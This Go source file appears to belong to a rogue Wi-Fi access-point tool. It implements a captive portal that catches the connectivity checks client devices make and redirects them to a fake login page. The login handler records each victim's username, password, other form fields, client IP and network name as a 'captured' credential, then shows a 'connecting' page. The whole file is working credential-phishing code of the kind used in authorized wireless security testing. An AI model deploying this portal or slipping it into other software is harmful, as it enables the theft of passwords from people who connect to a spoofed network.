package portal

import (
	"net/http"
	"strings"
	"time"

	"github.com/gorilla/mux"
	"github.com/lcalzada-xor/wkarma/internal/adapters/web/middleware"
	"github.com/lcalzada-xor/wkarma/internal/core/domain"
)

// maxFormBytes caps a login submission.
const maxFormBytes = 8 << 10

// connectivityChecks are the URLs client OSes fetch to detect a captive portal.
var connectivityChecks = []string{
	"/generate_204",
	"/gen_204",
	"/hotspot-detect.html",
	"/library/test/success.html",
	"/connecttest.txt",
	"/ncsi.txt",
	"/redirect",
}

func (s *Server) routes(sess *Session) *mux.Router {
	r := mux.NewRouter()
	r.Use(sess.count)

	for _, path := range connectivityChecks {
		r.HandleFunc(path, redirectToLogin)
	}
	r.HandleFunc("/", sess.handlePage).Methods(http.MethodGet)
	r.HandleFunc("/login", sess.handlePage).Methods(http.MethodGet)
	r.Handle("/login", middleware.RateLimitMiddleware(s.limiter)(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		s.handleLogin(sess, w, req)
	}))).Methods(http.MethodPost)

	r.NotFoundHandler = sess.count(http.HandlerFunc(redirectToLogin))
	return r
}

// count tallies requests for ProcessRequests and refuses them once the
// session is shutting down.
func (sess *Session) count(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if sess.closed.Load() {
			http.Error(w, "Service unavailable", http.StatusServiceUnavailable)
			return
		}
		sess.hits.Add(1)
		next.ServeHTTP(w, r)
	})
}

func redirectToLogin(w http.ResponseWriter, r *http.Request) {
	http.Redirect(w, r, "/login", http.StatusFound)
}

func (sess *Session) handlePage(w http.ResponseWriter, r *http.Request) {
	renderPage(w, http.StatusOK, sess.view(""))
}

func (s *Server) handleLogin(sess *Session, w http.ResponseWriter, r *http.Request) {
	r.Body = http.MaxBytesReader(w, r.Body, maxFormBytes)
	if err := r.ParseForm(); err != nil {
		renderPage(w, http.StatusBadRequest, sess.view("The form could not be read."))
		return
	}

	username := strings.TrimSpace(r.PostForm.Get("username"))
	password := r.PostForm.Get("password")
	if password == "" || (sess.security.Open() && username == "") {
		renderPage(w, http.StatusBadRequest, sess.view("Please fill in every field."))
		return
	}

	fields := make(map[string]string)
	for key, values := range r.PostForm {
		if key == "username" || key == "password" || len(values) == 0 {
			continue
		}
		fields[key] = values[0]
	}

	cred := domain.Credential{
		SSID:       sess.ssid,
		APName:     sess.apName,
		ClientAddr: middleware.ClientIP(r),
		Username:   username,
		Password:   password,
		Fields:     fields,
		CapturedAt: time.Now(),
	}
	select {
	case sess.pending <- cred:
		s.logger.Info("credential submitted", "ssid", sess.ssid, "client", cred.ClientAddr)
	default:
		s.logger.Warn("credential dropped, pending queue full", "ssid", sess.ssid, "client", cred.ClientAddr)
	}

	renderConnecting(w, sess.view(""))
}
